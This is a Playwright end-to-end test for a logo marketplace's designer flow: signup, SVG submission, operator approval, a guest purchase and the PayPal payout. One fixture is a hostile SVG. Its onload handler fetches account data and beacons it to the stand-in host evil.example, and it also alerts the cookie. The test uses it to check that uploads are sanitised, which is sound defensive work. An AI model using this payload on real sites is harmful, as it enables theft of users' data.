import { expect, test, type Browser, type Page } from "@playwright/test";
import { BASE_URL } from "../../playwright.config.ts";
import { CONSOLE_PASSWORD, operatorEmail, signIn } from "./console-helpers.ts";

/**
 * Issue 34, end to end with JavaScript off: a designer signs up through Sell Logos,
 * submits a clean SVG and a hostile one (refused, or kept without its script), an
 * operator approves the clean one, a guest buys it, the designer sees $3.00 earned and
 * sets a PayPal address (a bad one is refused first), and the month's PayPal payout file
 * pays them. (Named *purchase.spec.ts: approving adds a logo to browse and a guest buys
 * it, so it runs after the tests that count the catalogue.)
 */

const SCREENS = ".cache/screens/issue34-designers";
const SIZES = { desktop: { width: 1280, height: 800 }, phone: { width: 390, height: 844 } } as const;

/**
 * A drawn mark of its own: a staircase in one line with an amber step, transparent, plain
 * paths. Drawn as a line, not a solid block: the review compares inked cells, and a solid
 * staircase filled half its square, so it came within 0.55 of a catalogue mark and once
 * within 0.62 of a generated logo another test had sold (flagged, rightly, as a
 * near-duplicate). This one comes within 0.14 of the catalogue's nearest.
 */
const CLEAN_SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200"><path fill="none" stroke="#1e3a8a" stroke-width="8" stroke-linejoin="round" d="M20 180V140H60V100H100V60H140V20H180"/><rect x="150" y="150" width="16" height="16" fill="#f59e0b"/></svg>`;
const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200" onload="fetch('/account/data.json').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example/',t))"><script>alert(document.cookie)</script><circle cx="100" cy="100" r="60" fill="red"/></svg>`;

async function contextWithoutJavaScript(browser: Browser, size: { width: number; height: number } = SIZES.desktop) {
  return browser.newContext({ baseURL: BASE_URL, javaScriptEnabled: false, viewport: size });
}

async function submit(page: Page, file: { name: string; mimeType: string; body: string }, name: string) {
  await page.goto("/designer/submit");
  await page.getByLabel("Logo file").setInputFiles({ name: file.name, mimeType: file.mimeType, buffer: Buffer.from(file.body) });
  await page.getByLabel("Logo name").fill(name);
  await page.getByLabel("Category").selectOption("Abstract");
  await page.getByLabel("Tags").fill("stairs, line, step");
  await page.getByLabel("Description").fill("A deep blue staircase in one line with an amber step, for a studio that builds.");
  const posted = page.waitForResponse((response) => response.request().method() === "POST" && new URL(response.url()).pathname === "/designer/submit");
  await page.getByRole("button", { name: "Submit for review" }).click();
  return (await posted).status();
}

test.describe("designers sell here for real", () => {
  test.describe.configure({ timeout: 180_000 });

  test("a designer signs up and submits, an operator approves, a guest buys, the designer is paid", async ({ browser }, testInfo) => {
    test.skip(testInfo.project.name !== "desktop-purchases", "one run: it takes both sizes itself");
    const stamp = Date.now().toString(36);
    const designerEmail = `designer.${stamp}@example.com`;
    const publicName = `Ines Marlow ${stamp}`;
    const logoName = `Amber Step ${stamp}`;

    // The designer finds "Start selling" on Sell Logos and makes an account with a designer profile.
    const designerContext = await contextWithoutJavaScript(browser);
    const designer = await designerContext.newPage();
    await designer.goto("/sell-logos");
    await designer.getByRole("main").getByRole("link", { name: "Start selling" }).first().click();
    await expect(designer).toHaveURL(/\/designer\/start$/);
    await designer.getByRole("main").getByRole("link", { name: "Create an account" }).click();
    await designer.getByRole("main").getByLabel("Email").fill(designerEmail);
    await designer.getByRole("main").getByLabel("Password", { exact: true }).fill(CONSOLE_PASSWORD);
    await designer.getByRole("main").getByRole("button", { name: "Sign Up" }).click();
    await expect(designer).toHaveURL(/\/designer\/start$/);
    await designer.getByLabel("Public name").fill(publicName);
    await designer.getByLabel("Short bio (optional)").fill("Marks for small studios.");
    await designer.getByRole("button", { name: "Start selling" }).click();
    await expect(designer).toHaveURL(/\/designer\?notice=welcome$/);
    await expect(designer.getByRole("heading", { level: 1, name: publicName })).toBeVisible();

    // A clean SVG goes into review.
    expect(await submit(designer, { name: "amber-step.svg", mimeType: "image/svg+xml", body: CLEAN_SVG }, logoName)).toBe(303);
    const logos = designer.getByRole("region", { name: "Your logos" });
    await expect(logos.getByRole("listitem").filter({ hasText: logoName })).toContainText("In review");

    // A hostile SVG is refused with a 4xx and a message, or kept without what would run.
    const hostileStatus = await submit(designer, { name: "innocent.svg", mimeType: "image/svg+xml", body: HOSTILE_SVG }, `Innocent ${stamp}`);
    if (hostileStatus === 303) {
      const item = logos.getByRole("listitem").filter({ hasText: `Innocent ${stamp}` });
      await expect(item).toContainText("In review");
      const preview = await item.locator("img").getAttribute("src");
      const master = await designer.request.get(preview!.replace("preview.png", "original.svg"));
      expect(master.headers()["content-type"]).toBe("image/svg+xml");
      expect(master.headers()["content-security-policy"]).toContain("sandbox");
      const kept = await master.text();
      expect(kept).not.toMatch(/<script|onload|fetch\(/i);
    } else {
      expect(hostileStatus).toBeGreaterThanOrEqual(400);
      expect(hostileStatus).toBeLessThan(500);
      await expect(designer.getByRole("alert").first()).toBeVisible();
    }

    // An operator reviews the queue: previews at 16 px and large, no near-duplicate, approves.
    const operatorContext = await contextWithoutJavaScript(browser);
    const operator = await operatorContext.newPage();
    await signIn(operator, operatorEmail("review"));
    await operator.goto("/admin/submissions");
    await expect(operator.getByRole("heading", { level: 1, name: "Submissions" })).toBeVisible();
    const row = operator.getByRole("region", { name: "Submissions: In review" }).getByRole("row").filter({ hasText: logoName });
    await expect(row).toContainText(publicName);
    for (const [name, size] of Object.entries(SIZES)) {
      await operator.setViewportSize(size);
      await operator.screenshot({ path: `${SCREENS}/review-queue-${name}.png`, fullPage: true });
    }
    await operator.setViewportSize(SIZES.desktop);
    await row.getByRole("link", { name: logoName }).click();
    await expect(operator.getByRole("heading", { level: 1, name: logoName })).toBeVisible();
    await expect(operator.getByRole("img", { name: `${logoName} at 16 px` })).toHaveJSProperty("naturalWidth", 512);
    await expect(operator.getByRole("img", { name: `${logoName}, large` })).toBeVisible();
    await expect(operator.getByRole("region", { name: "Near-duplicates" })).toContainText("None");
    await expect(operator.getByRole("heading", { name: "Branding Inspiration" })).toBeVisible();
    for (const [name, size] of Object.entries(SIZES)) {
      await operator.setViewportSize(size);
      await operator.screenshot({ path: `${SCREENS}/review-page-${name}.png`, fullPage: true });
    }
    await operator.setViewportSize(SIZES.desktop);
    await operator.getByRole("button", { name: "Approve" }).click();
    await expect(operator.getByText(/Approved: it is on sale as catalogue logo \d+/)).toBeVisible();
    const logoId = Number(/catalogue logo (\d+)/.exec((await operator.getByText(/Approved: it is on sale as catalogue logo/).textContent())!)![1]);
    await operator.goto("/admin/activity");
    await expect(operator.getByRole("region", { name: "Activity" })).toContainText(`Approved "${logoName}" by ${publicName}: catalogue logo ${logoId}.`);

    // It is in browse with the designer's name, and a guest buys it.
    const guestContext = await contextWithoutJavaScript(browser);
    const guest = await guestContext.newPage();
    await guest.goto(`/browse?search=${encodeURIComponent(logoName)}`);
    await expect(guest.getByRole("main").getByText(logoName).first()).toBeVisible();
    await guest.goto(`/logo/${logoId}`);
    await expect(guest.getByRole("main").getByText(publicName).first()).toBeVisible();
    await guest.getByRole("main").getByRole("button", { name: "Purchase for $9.99" }).click();
    await expect(guest).toHaveURL(/\/test-checkout\/tcs_/);
    await guest.getByLabel("Email for the receipt").fill(`guest.${stamp}@example.com`);
    await guest.getByRole("button", { name: "Complete test payment" }).click();
    await expect(guest.getByRole("heading", { name: "Purchase Successful!" })).toBeVisible({ timeout: 15_000 });
    await guest.goto((await guest.getByRole("link", { name: "View & Download Logos" }).getAttribute("href"))!);
    const svgLink = guest.locator("main a[download]").filter({ hasText: /SVG/ }).first();
    const svg = await guest.request.get(await svgLink.evaluate((anchor) => (anchor as HTMLAnchorElement).href));
    expect(svg.status()).toBe(200);
    expect(await svg.text()).toContain("<svg");

    // The designer sees $3.00 earned and sets a PayPal address (a bad one is refused first).
    await designer.goto("/designer");
    await expect(designer.getByTestId("earned")).toHaveText("$3.00");
    await expect(logos.getByRole("listitem").filter({ hasText: logoName })).toContainText("Sold");
    await designer.getByRole("link", { name: "Profile and PayPal" }).click();
    await designer.getByLabel("PayPal address").fill("not an address");
    const refused = designer.waitForResponse((response) => response.request().method() === "POST");
    await designer.getByRole("button", { name: "Save profile" }).click();
    expect((await refused).status()).toBe(400);
    await expect(designer.getByRole("alert")).toContainText("Enter your PayPal address as an e-mail address");
    await designer.getByLabel("PayPal address").fill(`Paypal.${stamp}@Example.com`);
    await designer.getByRole("button", { name: "Save profile" }).click();
    await expect(designer.getByText("Your profile is saved.")).toBeVisible();
    for (const [name, size] of Object.entries(SIZES)) {
      await designer.setViewportSize(size);
      await designer.screenshot({ path: `${SCREENS}/designer-area-${name}.png`, fullPage: true });
    }
    const statement = await designer.request.get(`/designer/statement.csv?month=${new Date().toISOString().slice(0, 7)}`);
    expect(await statement.text()).toContain(`sale,${logoName},`);

    // The month's payout file pays them.
    const month = new Date().toISOString().slice(0, 7);
    await operator.goto(`/admin/payouts/${month}`);
    const file = await operator.request.get(`/admin/payouts/${month}.csv`);
    expect(file.status()).toBe(200);
    expect((await file.text()).split("\r\n")).toContainEqual(expect.stringMatching(new RegExp(`^paypal\\.${stamp}@example\\.com,3\\.00,USD,`)));

    await designerContext.close();
    await operatorContext.close();
    await guestContext.close();
  });
});
